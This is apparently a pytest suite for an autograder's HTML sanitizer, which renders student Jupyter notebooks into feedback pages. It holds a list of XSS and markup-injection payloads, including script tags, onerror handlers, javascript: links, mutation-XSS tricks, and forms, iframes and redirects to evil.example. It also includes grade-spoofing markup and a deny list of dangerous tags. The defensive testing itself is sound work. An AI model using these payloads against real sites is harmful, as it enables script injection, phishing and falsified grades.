"""What a student's notebook may do to a page: be read."""

from collections import Counter
from html.parser import HTMLParser

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from grader.report import feedback_page
from grader.report.student_work import TAGS, mathml, sanitized, student_work

SVG_SCRIPT = "<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'><script>hit()</script></svg>"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR42mP4DwABAQEAG7buVgAAAABJRU5ErkJggg=="
HOSTILE = [
    "<script>hit()</script>",
    "<script src='https://evil.example/x.js'></script>",
    "<img src=x onerror=hit()>",
    "<img src='https://evil.example/pixel.png'>",
    "<img srcset='https://evil.example/pixel.png 2x'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<a href='javascript:hit()'>x</a>",
    "<a href=' jAvAsCrIpT:hit()'>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "<a href='#1'>to the grader's words</a>",
    "<a ping='https://evil.example/' href='https://example.org/'>x</a>",
    SVG_SCRIPT,
    "<svg><a xlink:href='javascript:hit()'><text y=20>x</text></a></svg>",
    "<svg><use href='https://evil.example/x.svg#y'/></svg>",
    "<style>body { display: none } .score { background: url(https://evil.example/) }</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<div style='position:fixed;inset:0;background:red'>10/10</div>",
    "<span style='color:rgb(1,2,3);position:fixed;background:url(https://evil.example/)'>x</span>",
    "<td style='text-align:left;position:fixed'>x</td>",
    "<div class='score points notice theirs label ours' id='1'>10.00 of 10.00</div>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>hit()</script>'></iframe>",
    "<form action='https://evil.example/'><input name=p><button>Send</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
    "<video src='https://evil.example/' autoplay></video><audio src='https://evil.example/'></audio>",
    "<body onload=hit()><html manifest='https://evil.example/'>",
    "<details ontoggle=hit() open>x</details>",
    "<input autofocus onfocus=hit()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></table></mtext></math>",
    "<math href='javascript:hit()'><mi>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>hit()</script></annotation-xml></math>",
    "<math><mspace width='-900em'/><mpadded lspace='-90em'><mtext>10/10</mtext></mpadded></math>",
    "</div></div></section></main><div role=alert>10.00 of 10.00</div>",
    "<!-- --><p>after</p><!--",
    "<plaintext>",
    "<textarea>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<template><script>hit()</script></template>",
    "<marquee onstart=hit()>x</marquee>",
    "<dialog open style='position:fixed'>10/10</dialog>",
    "<p popover id=p>x</p><button popovertarget=p>x</button>",
    "<div tabindex=9 accesskey=s contenteditable>x</div>",
    "<p id=1 name=1>10/10</p><a name=2></a><img name=body src=x>",
]  # fmt: skip
ATTRIBUTES = {
    "alt", "class", "colspan", "columnalign", "display", "height", "href", "rel", "rowspan",
    "scope", "src", "start", "style", "tabindex", "title", "width", "accent", "accentunder", "displaystyle",
    "fence", "form", "largeop", "linethickness", "mathvariant", "stretchy",
}  # fmt: skip


def an_output(html):
    return new_output("display_data", data={"text/html": html})


def a_notebook(hostile):
    """The same text wherever a student can put it."""
    cells = [
        new_markdown_cell(f"before\n\n{hostile}\n\nafter $x$ [link]({hostile})"),
        new_markdown_cell(f"$\\text{{{hostile}}}$"),
        new_code_cell(
            f"print({hostile!r})",
            outputs=[
                an_output(hostile),
                new_output("display_data", data={"text/markdown": hostile}),
                new_output("display_data", data={"text/latex": hostile}),
                new_output("display_data", data={"text/plain": hostile}),
                new_output("display_data", data={"image/svg+xml": hostile}),
                new_output("display_data", data={"image/png": hostile}),
                new_output("display_data", data={"application/javascript": "hit()"}),
                new_output("stream", name="stdout", text=hostile),
                new_output("error", ename=hostile, evalue=hostile, traceback=[hostile]),
            ],
            metadata={"odd": hostile},
        ),
        new_code_cell("last = 1", outputs=[new_output("stream", text="the last words")]),
    ]
    return new_notebook(
        cells=cells, metadata={"title": hostile, "language_info": {"name": hostile}}
    )


def the_work(page):
    """The one frame of a page, and what is outside it."""
    soup = BeautifulSoup(page, "html.parser")
    (frame,) = soup.select("section.theirs")
    assert len(soup.select("main")) == len(soup.select("section.score")) == 1
    (work,) = frame.select("div.work")
    return soup, work


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_hostile_survives(hostile, late_score):
    page = feedback_page(late_score, title="Homework 1", notebook=a_notebook(hostile))
    soup, work = the_work(page)
    for tag in work.find_all(True):
        assert tag.name in TAGS.split()
        for name, value in tag.attrs.items():
            assert name in ATTRIBUTES
            if name == "src":
                assert value.startswith("data:image/")
            if name == "href":
                assert value.startswith(("http://", "https://", "mailto:"))
            if name == "style":
                assert value.startswith(("color:var(--ansi-", "text-align:"))
            if name == "tabindex":
                assert value == "0"
            if name == "class":
                ours = {"score", "points", "notice", "theirs", "label", "ours"}
                assert not ours & set(value)
    assert "the last words" in work.get_text()  # nothing is swallowed that comes after
    work.extract()
    assert soup.find_all("script") == []
    assert "10/10" not in soup.get_text()
    assert soup.get_text().count("10.00 of 10.00") == 0


def test_a_browser_reads_the_sanitized_text_as_the_sanitizer_did():
    for hostile in HOSTILE:
        once = sanitized(hostile)
        assert sanitized(once) == once


class Reader(HTMLParser):
    """All tags of a page with their attributes, as the standard library reads them."""

    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def tags_of(page):
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader.tags


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_whole_page_has_only_tags_and_ids_of_ours(hostile, late_score):
    """A second reader, which knows nothing of frames: nothing in the page as a whole is odd."""
    plain = tags_of(feedback_page(late_score, title="Homework 1"))
    tags = tags_of(feedback_page(late_score, title="Homework 1", notebook=a_notebook(hostile)))
    names = Counter(name for name, _ in tags)
    forbidden = {"script", "iframe", "object", "embed", "form", "input", "button", "base", "link",
                 "svg", "video", "audio", "template", "textarea", "dialog", "frame"}  # fmt: skip
    assert not forbidden & set(names)
    for name in ("style", "meta", "title", "html", "body", "main"):
        assert names[name] == Counter(name for name, _ in plain)[name]
    for name, attributes in tags:
        assert not [key for key in attributes if key.startswith("on")]
        for value in attributes.values():
            assert "javascript:" not in (value or "").lower()
        loads = {key: attributes[key] for key in ("src", "srcset", "data", "poster", "action")
                 if attributes.get(key)}  # fmt: skip
        assert all(value.startswith("data:image/") for value in loads.values())
        if "href" in attributes:
            assert name == "a"
    ids = [attributes["id"] for _, attributes in tags if "id" in attributes]
    assert ids == [attributes["id"] for _, attributes in plain if "id" in attributes]
    assert len(ids) == len(set(ids))
    assert not [attributes for name, attributes in tags if "name" in attributes and name != "meta"]


def test_an_empty_corner_of_a_table_is_no_header():
    shown = sanitized("<table><tr><th></th><th>a</th></tr></table>")
    soup = BeautifulSoup(shown, "html.parser")
    assert [cell.name for cell in soup.select("tr > *")] == ["td", "th"]


def test_a_wide_table_can_be_scrolled_from_the_keyboard():
    cell = new_code_cell("t", outputs=[an_output("<table><tr><td>1</table>")])
    soup = BeautifulSoup(student_work(new_notebook(cells=[cell])), "html.parser")
    assert soup.select_one(".nb-html")["tabindex"] == "0"


def test_the_page_forbids_everything_by_policy(late_score):
    page = feedback_page(late_score, title="Homework 1")
    (policy,) = BeautifulSoup(page, "html.parser").select("meta[http-equiv]")
    assert policy["http-equiv"] == "Content-Security-Policy"
    assert policy["content"].startswith(
        "default-src 'none'; img-src data:; style-src 'unsafe-inline'"
    )
    assert page.index("Content-Security-Policy") < page.index("<style>")


def test_pictures_tables_and_colours_stay():
    png = PNG
    svg = "<svg xmlns='http://www.w3.org/2000/svg'/>"
    cell = new_code_cell(
        "def f(x):\n    return x",
        outputs=[
            new_output("display_data", data={"image/png": png}),
            new_output("display_data", data={"image/svg+xml": svg}),
            an_output("<table><tr><th>Height<td colspan=2>60.99</table>"),
            new_output(
                "error",
                ename="E",
                evalue="v",
                traceback=["\x1b[31mE\x1b[39m \x1b[38;5;28;01mdef\x1b[39m <v>"],
            ),
        ],
    )
    soup = BeautifulSoup(student_work(new_notebook(cells=[cell])), "html.parser")
    first, second = soup.select("img")
    assert first["src"] == f"data:image/png;base64,{png}"
    assert first["alt"] == "Picture that cell 1 drew"
    assert second["src"].startswith("data:image/svg+xml;base64,")
    assert soup.select_one("td")["colspan"] == "2"
    assert soup.select_one(".nb-error .ansi-red-fg").text == "E"
    assert soup.select_one(".ansi-bold")["style"] == "color:var(--ansi-green)"
    assert "<v>" in soup.select_one(".nb-error").text
    assert soup.select_one(".highlight .k").text == "def"


def test_cells_count_from_1_over_code_cells():
    cells = [new_code_cell("a"), new_markdown_cell("text"), new_code_cell("b", execution_count=7)]
    soup = BeautifulSoup(student_work(new_notebook(cells=cells)), "html.parser")
    assert [tag.text for tag in soup.select(".nb-number")] == ["cell 1", "cell 2"]


@pytest.mark.parametrize(
    "tex",
    [r"\frac{\partial J}{\partial w}", r"\hat{y}^{(i)} = w x^{(i)} + b", r"X^\top (Xw - y)",
     r"\sum_{i=1}^m", r"\begin{bmatrix}1 & 2\\3 & 4\end{bmatrix}", r"a < b", r"\mathbb{R}^n"],
)  # fmt: skip
def test_formulas_become_mathml_without_loss(tex):
    translated = sanitized(mathml(tex, display=True))
    assert "<math" in translated
    assert "<code>" not in translated


@pytest.mark.parametrize("tex", ["x_", r"\nosuch{x}", "{" * 3000, "x" * 10_000, r"\frac"])
def test_what_is_no_formula_is_shown_as_it_was_written(tex):
    shown = BeautifulSoup(sanitized(mathml(tex)), "html.parser")
    assert shown.select("math") == [] or tex == r"\frac"
    assert shown.text == f"${tex}$" or shown.select("math")


def test_equations_in_markdown():
    text = "inline $x^2$\n\n$$\\frac{1}{m}$$\n\n\\begin{align} a &= b \\end{align}\n"
    soup = BeautifulSoup(student_work(new_notebook(cells=[new_markdown_cell(text)])), "html.parser")
    assert len(soup.select("math")) == 3
    assert len(soup.select(".formula math[display=block]")) == 2
    assert "(1)" not in soup.text


def test_latex_output_is_drawn():
    cell = new_code_cell("expr", outputs=[new_output("display_data", data={"text/latex": "$x^2$"})])
    assert "<msup>" in student_work(new_notebook(cells=[cell]))


def test_a_notebook_full_of_nonsense_is_still_drawn():
    cell = nbformat.from_dict(
        {
            "cell_type": "code",
            "source": ["a = 1\n", "b"],
            "outputs": [
                {},
                {"output_type": "stream"},
                {"output_type": "error"},
                {"output_type": "display_data", "data": {"text/html": ["<b>x", 3]}},
                {"output_type": "display_data", "data": {"text/plain": {"a": 1}}},
                {"output_type": "display_data", "data": None},
            ],
        }
    )
    notebook = nbformat.from_dict(
        {"cells": [cell, {"cell_type": "odd"}, {"cell_type": "raw", "source": "<b>"}]}
    )
    assert "a = 1" in BeautifulSoup(student_work(notebook), "html.parser").text


def test_a_missing_attachment_costs_only_itself():
    cell = new_markdown_cell("![plot](attachment:gone.png) and text")
    assert "and text" in student_work(new_notebook(cells=[cell]))


def test_a_pasted_picture_stays():
    cell = new_markdown_cell("![plot](attachment:p.png)", attachments={"p.png": {"image/png": PNG}})
    assert f"data:image/png;base64,{PNG}" in student_work(new_notebook(cells=[cell]))


def test_a_text_too_long_to_be_drawn_is_shown_as_it_was_written_and_holds_nobody_up():
    def work(text):
        return student_work(new_notebook(cells=[new_markdown_cell(text)]))

    assert "<b>" not in work("<b>a*b</b> " * 20_000)
    assert "&lt;b&gt;a*b" in work("<b>a*b</b> " * 20_000)
    with_a_picture = "**bold** ![](data:image/png;base64," + "A" * 400_000 + ")"
    assert "<strong>bold</strong>" in work(with_a_picture)
